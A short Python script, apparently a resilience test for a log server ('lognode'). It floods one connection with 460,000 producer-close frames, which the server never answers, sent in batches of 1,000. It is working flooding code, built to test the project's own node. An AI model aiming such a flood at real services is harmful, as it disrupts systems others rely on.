"""Tell the node 460,000 times that a producer is closed; nobody answers such a message."""

import argparse

from attack import Line, arguments, main, range_of

from lognode.client.protocol import frame
from lognode.client.protocol.appends import PRODUCER_CLOSE

_CLOSES_A_WRITE = 1_000


async def attack(line: Line, options: argparse.Namespace) -> None:
    """One connection."""
    asked = await range_of(line, options.log)
    for first in range(options.first, options.first + options.closes, _CLOSES_A_WRITE):
        closes = (
            frame.encode(0, PRODUCER_CLOSE.number, {**asked, "id": producer})
            for producer in range(first, first + _CLOSES_A_WRITE)
        )
        await line.write(b"".join(closes))


if __name__ == "__main__":
    parser = arguments()
    parser.add_argument("--closes", type=int, default=460_000)
    parser.add_argument("--first", type=int, default=1_000_000, help="the id of the first one")
    main(attack, parser)
